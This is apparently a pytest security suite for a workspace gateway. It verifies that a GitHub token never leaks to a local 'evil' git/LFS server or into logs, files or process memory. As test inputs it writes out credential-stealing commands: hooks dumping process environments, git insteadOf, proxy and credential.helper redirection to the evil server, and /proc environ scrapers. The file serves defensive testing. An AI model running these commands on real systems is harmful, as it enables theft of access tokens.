"""The GitHub token reaches only GitHub, only through git's HTTP transport, only during the one
operation; and it is no plain workspace secret (properties 7 and 8 of the security issue).

Every attack goes through the public surfaces: a client of the REST API with the bearer token,
and commands inside a workspace. GitHub is a local git server named by the gateway's setting;
an "evil" git and LFS server (the same server class, another token) records every Authorization
header it receives. After each attack: the evil server got no token, and the token (and its
base64, hex and percent-encoded forms) is in no event, no file under the data root and no log.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import json
import os
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest
from e2e_support import Served, local_backend, serve
from service_support import TOKEN
from support.git_server import HELLO_BRANCHES, HELLO_REPO, ArgvSampler, GitServer, start_ticks

pytest.importorskip("modal_workspace_core.drivers.local.driver")

LFS_REPO = "octo/lfs"
OPENAI_KEY = "sk-proj-" + "Zq9" * 12
_LFS_POINTER = (
    "version https://git-lfs.github.com/spec/v1\n"
    "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    "size 12345\n"
)


@dataclass
class Rig:
    served: Served
    api: httpx2.Client
    github: GitServer
    evil: GitServer

    @property
    def token(self) -> str:
        return self.github.token


def forms(secret: str) -> list[str]:
    """The token and the encodings an attacker's trace would print."""
    raw = secret.encode()
    basic = f"x-access-token:{secret}".encode()
    return [
        secret,
        base64.b64encode(raw).decode().rstrip("="),
        base64.urlsafe_b64encode(raw).decode().rstrip("="),
        base64.b64encode(basic).decode().rstrip("="),
        binascii.hexlify(raw).decode(),
        binascii.hexlify(raw).decode().upper(),
        urllib.parse.quote(secret, safe=""),
    ]


@pytest.fixture(scope="module")
def rig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rig]:
    tmp = tmp_path_factory.mktemp("sec-git")
    token = "ghs_" + binascii.hexlify(os.urandom(18)).decode()
    github = GitServer(root=tmp / "github", username="x-access-token", token=token).start()
    evil = GitServer(root=tmp / "evil", username="x-access-token", token="evil-" + "0" * 12)
    evil.start()
    for server in (github, evil):
        server.create_repo(HELLO_REPO, HELLO_BRANCHES)
    lfs_files = {
        ".lfsconfig": f"[lfs]\n\turl = {evil.base_url}lfs\n",
        ".gitattributes": "big.bin filter=lfs diff=lfs merge=lfs -text\n",
        "big.bin": _LFS_POINTER,
    }
    github.create_repo(LFS_REPO, {"main": lfs_files})
    secrets = tmp / "extra-secrets"
    github_env = {
        **github.gateway_env,
        "MODAL_WORKSPACE_HOST_PORTS": f"{github.port},{evil.port}",
    }
    with contextlib.ExitStack() as stack:
        backend = stack.enter_context(local_backend(tmp, token))
        # One more allowlisted secret, to check the redaction of its encodings.
        held = json.loads(Path(backend.env["MODAL_WORKSPACE_LOCAL_SECRETS_FILE"]).read_text())
        held["openai"] = {"OPENAI_API_KEY": OPENAI_KEY}
        secrets.write_text(json.dumps(held))
        backend.env["MODAL_WORKSPACE_LOCAL_SECRETS_FILE"] = str(secrets)
        github_env["MODAL_WORKSPACE_ALLOWED_SECRETS"] = "github:GH_TOKEN,openai:OPENAI_API_KEY"
        served = stack.enter_context(serve(tmp, token, backend, github_env=github_env))
        headers = {"Authorization": f"Bearer {TOKEN}"}
        api = stack.enter_context(httpx2.Client(base_url=served.api, headers=headers, timeout=120))
        try:
            yield Rig(served, api, github, evil)
        finally:
            github.stop()
            evil.stop()


def ok(response: httpx2.Response) -> Any:
    assert response.status_code == 200, response.text
    return response.json()


def create(rig: Rig, **body: Any) -> str:
    return str(ok(rig.api.post("/workspaces", json=body))["workspace_id"])


def sh(rig: Rig, ws: str, command: str) -> dict[str, Any]:
    done = ok(rig.api.post(f"/workspaces/{ws}/exec", json={"command": command}))
    assert isinstance(done, dict)
    return done


def drain(rig: Rig, ws: str, exec_id: str) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    cursor, events, deadline = 0, [], time.monotonic() + 180
    while True:
        page = ok(
            rig.api.get(
                f"/workspaces/{ws}/realtime-execs/{exec_id}/events",
                params={"cursor": cursor, "wait_seconds": 10},
            )
        )
        events += page["events"]
        cursor = page["next_cursor"]
        if page["done"]:
            return events, page
        assert time.monotonic() < deadline, "the exec did not end"


def text(events: list[dict[str, Any]]) -> str:
    out = b""
    for e in events:
        if "data_b64" in e:
            out += base64.b64decode(e["data_b64"])
        elif e.get("data"):
            out += e["data"].encode()
    return out.decode(errors="replace")


def clone(rig: Rig, ws: str, repo: str = HELLO_REPO, **extra: Any) -> tuple[str, dict[str, Any]]:
    body = {"repository": repo, "use_github_token": True, **extra}
    started = ok(rig.api.post(f"/workspaces/{ws}/repo/clone", json=body))
    events, last = drain(rig, ws, started["exec_id"])
    return text(events) + json.dumps(events), last


def fetch(rig: Rig, ws: str, dest: str = "/workspace/hello") -> tuple[str, dict[str, Any]]:
    body = {"destination": dest, "use_github_token": True}
    response = rig.api.post(f"/workspaces/{ws}/repo/fetch", json=body)
    if response.status_code != 200:
        return response.text, {"state": "refused", "returncode": None}
    events, last = drain(rig, ws, response.json()["exec_id"])
    return text(events) + json.dumps(events), last


def assert_no_leak(rig: Rig, seen: str = "") -> None:
    """The evil server got no token; the token's forms are in nothing the test can read."""
    assert rig.token not in rig.evil.passwords
    assert all(rig.token not in a for a in rig.evil.authorizations)
    wanted = forms(rig.token)
    for form in wanted:
        assert form not in seen, f"a form of the token is in the events: {form[:6]}…"
    log = rig.served.log_text()
    assert all(form not in log for form in wanted)
    needles = [form.encode() for form in wanted]
    for path in rig.served.files_root.rglob("*"):
        if path.name == "disk.img":
            continue  # a workspace's disk: its files are read through its mount point
        with contextlib.suppress(OSError):
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                assert not any(n in data for n in needles), f"a form of the token is in {path}"


def test_the_predecessor_workflow_still_works(rig: Rig) -> None:
    ws = create(rig)
    seen, last = clone(rig, ws, ref="feature")
    assert (last["state"], last["returncode"]) == ("finished", 0), seen
    assert rig.token in rig.github.passwords  # the clone really authenticated
    assert sh(rig, ws, "cat hello/src/feature.py")["stdout"] == "FEATURE = True\n"
    origin = sh(rig, ws, "git -C hello remote get-url origin")["stdout"].strip()
    assert origin == rig.github.repo_url(HELLO_REPO)
    sh(rig, ws, "echo changed >> hello/README.md")
    diff = ok(rig.api.get(f"/workspaces/{ws}/repo/diff", params={"destination": "hello"}))
    assert "+changed" in diff["diff"]
    seen_fetch, last = fetch(rig, ws)
    assert (last["state"], last["returncode"]) == ("finished", 0), seen_fetch
    assert_no_leak(rig, seen + seen_fetch)


def test_a_hooks_path_hook_of_the_workspace_never_sees_the_token(rig: Rig) -> None:
    ws = create(rig)
    hook = "#!/bin/sh\n{ env; tr '\\0' '\\n' < /proc/$PPID/environ; } >> /workspace/hooks.log\n"
    names = ["post-checkout", "reference-transaction", "pre-auto-gc", "post-index-change"]
    for name in names:
        body = {"path": f"hooks/{name}", "content": hook}
        ok(rig.api.put(f"/workspaces/{ws}/files/content", json=body))
    setup = "chmod +x hooks/* && git config --global core.hooksPath /workspace/hooks"
    assert sh(rig, ws, setup)["returncode"] == 0
    seen, last = clone(rig, ws)
    assert last["returncode"] == 0, seen
    # The hooks did run, in the workspace step: they saw no token.
    assert "GIT_" in sh(rig, ws, "cat hooks.log")["stdout"]
    assert_no_leak(rig, seen)


def test_insteadof_in_the_workspace_global_config_does_not_send_the_token_elsewhere(
    rig: Rig,
) -> None:
    ws = create(rig)
    base = rig.github.base_url
    command = f"git config --global url.{rig.evil.base_url}.insteadOf {base}"
    assert sh(rig, ws, command)["returncode"] == 0
    seen, last = clone(rig, ws)
    assert last["returncode"] == 0, seen
    assert_no_leak(rig, seen)


def test_local_config_and_a_rewritten_origin_do_not_redirect_a_fetch(rig: Rig) -> None:
    ws = create(rig)
    assert clone(rig, ws)[1]["returncode"] == 0
    evil = rig.evil.base_url
    attacks = [
        f"git -C hello config url.{evil}.insteadOf {rig.github.base_url}",
        f"git -C hello remote set-url origin {rig.evil.repo_url(HELLO_REPO)}",
        f"git -C hello config http.proxy {evil}",
        "git -C hello config http.extraHeader 'X-Evil: 1'",
        "git -C hello config http.sslVerify false",
        "git -C hello config core.hooksPath /workspace/hooks && git -C hello config "
        "credential.helper '!f() { cat > /workspace/cred.txt; }; f'",
    ]
    before = len(rig.evil.requests)
    for attack in attacks:
        assert sh(rig, ws, attack)["returncode"] == 0, attack
    seen, _ = fetch(rig, ws)
    assert len(rig.evil.requests) == before, "the fetch reached the evil server"
    assert_no_leak(rig, seen)


def test_trace_variables_in_the_workspace_env_print_no_form_of_the_token(rig: Rig) -> None:
    env = {
        "GIT_TRACE_CURL": "1",
        "GIT_CURL_VERBOSE": "1",
        "GIT_TRACE": "1",
        "GIT_TRACE_PACKET": "1",
        "GIT_TRACE_REDACT": "0",
    }
    ws = create(rig, env=env)
    seen, last = clone(rig, ws)
    assert last["returncode"] == 0, seen
    assert_no_leak(rig, seen)


def test_an_lfsconfig_in_the_repository_does_not_reach_another_lfs_server(rig: Rig) -> None:
    ws = create(rig)
    # A user who turned LFS on for their workspace (the Modal image does it system-wide).
    assert sh(rig, ws, "git lfs install --skip-repo")["returncode"] == 0
    before = len(rig.evil.requests)
    seen, _ = clone(rig, ws, repo=LFS_REPO)
    assert all(not r.path.startswith("/lfs") for r in rig.evil.requests[before:])
    assert_no_leak(rig, seen)


def during_clones(rig: Rig, ws: str, command: str, prefix: str) -> str:
    """The output of `command`, run while three authenticated clones (into /workspace/PREFIXn)
    run one after another; it must end when /tmp/stop appears."""
    started = ok(rig.api.post(f"/workspaces/{ws}/realtime-execs", json={"command": command}))
    for i in range(3):
        seen, last = clone(rig, ws, destination=f"/workspace/{prefix}{i}")
        assert last["returncode"] == 0, seen
    sh(rig, ws, "touch /tmp/stop")
    events, _ = drain(rig, ws, started["exec_id"])
    return text(events)


# Shell that writes the tokens' prefix (`ghs_`, the test token's too) to /tmp/needle without
# spelling it anywhere, so the scraper's own argv never matches.
NEEDLE = "printf 'gh%s_\\n' s > /tmp/needle; "


def test_a_concurrent_command_scraping_proc_finds_no_token(rig: Rig) -> None:
    ws = create(rig)
    # Counts what it finds, never prints it: the count is all the test needs to read. Whatever
    # uid git runs as, the token is in no process's environment or argv. What it cannot read
    # (the agent's and its git's environments, as another uid) it counts too: a failure is
    # never taken for an absence, and a scraper that read nothing proves nothing. (The host's
    # view, which reads everything, is the next test's.)
    assert rig.token.startswith("ghs_")
    scraper = NEEDLE + (
        "end=$(($(date +%s)+20)); n=0; read=0; unreadable=0; "
        "while [ $(date +%s) -lt $end ] && [ ! -e /tmp/stop ]; do "
        "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do "
        "if tr '\\0' '\\n' 2>/dev/null < \"$f\" > /tmp/one; then read=$((read+1)); "
        "c=$(grep -a -c -F -f /tmp/needle /tmp/one); n=$((n+${c:-0})); "
        # A process that ended meanwhile took its files along; any other failure counts.
        'elif [ -e "$f" ]; then unreadable=$((unreadable+1)); fi; '
        "done; done; echo found=$n read=$read unreadable=$unreadable"
    )
    out = during_clones(rig, ws, scraper, "h")
    counts = dict(item.split("=", 1) for item in out.split() if item.count("=") == 1)
    assert counts.get("found") == "0", out
    assert int(counts.get("read", "0")) > 0, f"the scraper read nothing: {out}"


def test_no_process_on_the_host_holds_the_token_while_clone_and_fetch_run(rig: Rig) -> None:
    """The host's view, as root: every process's argv and environment (the agent's git step
    and its askpass, the workspace's git, the sandbox's and the host's own processes) sampled
    while a clone and a fetch authenticate, for the token and its encodings."""
    if os.geteuid() != 0:
        pytest.skip("reads every process's environment, which only root may")
    ws = create(rig)
    before = len(rig.github.passwords)
    with ArgvSampler(rig.token, environ=True, also=tuple(forms(rig.token)[1:])) as sampler:
        seen, last = clone(rig, ws)
        assert last["returncode"] == 0, seen
        seen_fetch, last = fetch(rig, ws)
        assert last["returncode"] == 0, seen_fetch
    assert rig.github.passwords[before:].count(rig.token) >= 2  # both really authenticated
    assert sampler.leaks == []
    # Everything the gateway started, and whatever started after it, was read (a process of
    # the host's older than the gateway may be shielded even from root).
    gateway_started = start_ticks(Path(f"/proc/{rig.served.pid}"))
    assert gateway_started is not None
    assert sampler.unreadable_since(gateway_started) == [], sampler.unreadable
    # It read the environments of the steps that authenticate, while they ran.
    assert sampler.askpass_environs > 0, vars(sampler)
    assert sampler.git_seen > 0 and sampler.environs_read > 0, vars(sampler)
    assert_no_leak(rig, seen + seen_fetch)


def test_the_agents_askpass_answers_no_command_even_during_an_authenticated_clone(
    rig: Rig,
) -> None:
    """A command asks the agent's askpass socket for the token with git's own prompt, over and
    over while clones run: it is not below the clone's network step, so it gets nothing."""
    import sys

    from modal_workspace_core import agent

    ws = create(rig)
    github = rig.github.base_url.rstrip("/")
    scheme, authority = github.split("://")
    prompt = f"Password for '{scheme}://x-access-token@{authority}': "
    socket = "/run/agent/sock/agent.sock.askpass"
    asker = (
        f"export MWC_AGENT_PYTHON={sys.executable} MWC_ASKPASS_SOCKET={socket}; "
        "end=$(($(date +%s)+20)); asked=0; got=0; "
        "while [ $(date +%s) -lt $end ] && [ ! -e /tmp/stop ]; do "
        f'out=$({agent.ASKPASS} "{prompt}" 2>/dev/null); asked=$((asked+1)); '
        '[ -n "$out" ] && got=$((got+1)); done; echo "asked=$asked got=$got"'
    )
    out = during_clones(rig, ws, asker, "a")
    assert "got=0" in out, out
    assert "asked=0 " not in out, out


def test_secret_names_cannot_name_the_github_secret(rig: Rig) -> None:
    refused = rig.api.post("/workspaces", json={"secret_names": ["github"]})
    assert refused.status_code == 403, refused.text
    error = refused.json()["error"]
    assert error["field"] == "secret_names[0]"
    assert "MODAL_WORKSPACE_ALLOW_GITHUB_SECRET_IN_WORKSPACES" in error["message"]


def test_encoded_forms_of_a_secret_are_redacted_from_output(rig: Rig) -> None:
    ws = create(rig, secret_names=["openai"])
    command = (
        'v="$OPENAI_API_KEY"; printf %s "$v" | base64 -w0; echo; '
        'printf %s "$v" | basenc --base64url -w0 | tr -d =; echo; '
        "printf 'u:%s' \"$v\" | base64 -w0; echo; "
        "printf %s \"$v\" | od -An -tx1 | tr -d ' \\n'; echo"
    )
    out = sh(rig, ws, command)["stdout"]
    assert out.count("[REDACTED]") >= 4, out
    for form in forms(OPENAI_KEY)[1:]:
        assert form not in out
    assert base64.b64encode(OPENAI_KEY.encode()).decode()[:12] not in out


# --- what the gateway hands the agent ---------------------------------------------------------


def _places(value: Any, needles: list[str], at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a request's arguments that holds one of `needles`, as a path of keys and
    indexes (a key that holds one ends its path with "<key>")."""
    found: list[tuple[Any, ...]] = []
    if isinstance(value, dict):
        for key, item in value.items():
            if any(n in str(key) for n in needles):
                found.append((*at, key, "<key>"))
            found += _places(item, needles, (*at, key))
    elif isinstance(value, list | tuple):
        for index, item in enumerate(value):
            found += _places(item, needles, (*at, index))
    elif isinstance(value, str | bytes):
        text = value if isinstance(value, str) else value.decode(errors="replace")
        if any(n in text for n in needles):
            found.append(at)
    return found


async def test_the_gateway_hands_the_agent_the_token_only_as_the_network_steps_credential(
    tmp_path: Path, git_server: GitServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every request the gateway sends the agent while a clone, a fetch and a push run, as it
    sends them: the token (or an encoding of it) is in one place, the `credential` of the one
    step that runs as the agent, for the configured GitHub, besides the exec's `secrets` (the
    values the agent redacts); never in a step's argv or env, another field, another request,
    or a payload."""
    import copy

    import modal_workspace_core as mwc
    from modal_workspace_core.channel.client import AgentClient
    from modal_workspace_core.config import load_settings
    from modal_workspace_core.git import commands as gitcmd

    sent: list[tuple[str, dict[str, Any], bytes]] = []
    original = AgentClient.request

    async def recording(
        self: AgentClient,
        op: str,
        args: Any = None,
        payload: bytes = b"",
        timeout: float | None = None,
    ) -> tuple[dict[str, Any], bytes]:
        sent.append((op, copy.deepcopy(dict(args or {})), bytes(payload)))
        return await original(self, op, args, payload, timeout)

    monkeypatch.setattr(AgentClient, "request", recording)
    token = git_server.token
    secrets = tmp_path / "secrets.json"
    secrets.write_text(json.dumps({"github": {"GH_TOKEN": token}}))
    env = {
        **git_server.gateway_env,
        "MODAL_WORKSPACE_ALLOWED_SECRETS": "github",
        "MODAL_WORKSPACE_LOCAL_SECRETS_FILE": str(secrets),
    }
    settings = load_settings(env, data_root=tmp_path / "data")
    async with mwc.Workspaces(settings=settings) as wss, wss.create() as ws:
        for operation, argument in ((ws.repo_clone, HELLO_REPO), (ws.repo_fetch, "hello")):
            started = await operation(argument, use_github_token=True)
            events = [e async for e in ws.follow(started.exec_id)]
            ended = await ws.realtime_exec_status(started.exec_id)
            assert ended.returncode == 0, [e.data for e in events if e.data]
        await ws.file_write("hello/NEW.md", "new\n")
        await ws.repo_commit(message="new", destination="/workspace/hello")
        pushed = await ws.repo_push(destination="/workspace/hello")
        assert pushed.pushed, pushed.error
    assert git_server.passwords.count(token) >= 3  # clone, fetch and push authenticated

    needles = forms(token)
    base = gitcmd.base_origin(settings.github_url)
    credentialed = 0
    for op, args, payload in sent:
        assert not any(n.encode() in payload for n in needles), f"a payload of {op}"
        allowed: set[tuple[Any, ...]] = set()
        if op == "exec.start":
            steps = args.get("steps") or []
            with_credential = [i for i, step in enumerate(steps) if "credential" in step]
            assert len(with_credential) <= 1, args["exec_id"]
            for i in with_credential:
                assert steps[i].get("identity") == "agent"
                assert steps[i]["credential"] == {"base": base, "token": token}
                allowed.add(("steps", i, "credential", "token"))
                credentialed += 1
            allowed |= {
                ("secrets", i) for i, v in enumerate(args.get("secrets") or []) if v == token
            }
        found = set(_places(args, needles))
        assert found <= allowed, f"{op} carries the token at {sorted(found - allowed, key=str)}"
        assert {p for p in allowed if p[0] == "steps"} <= found
    assert credentialed == 3, [op for op, _, _ in sent]
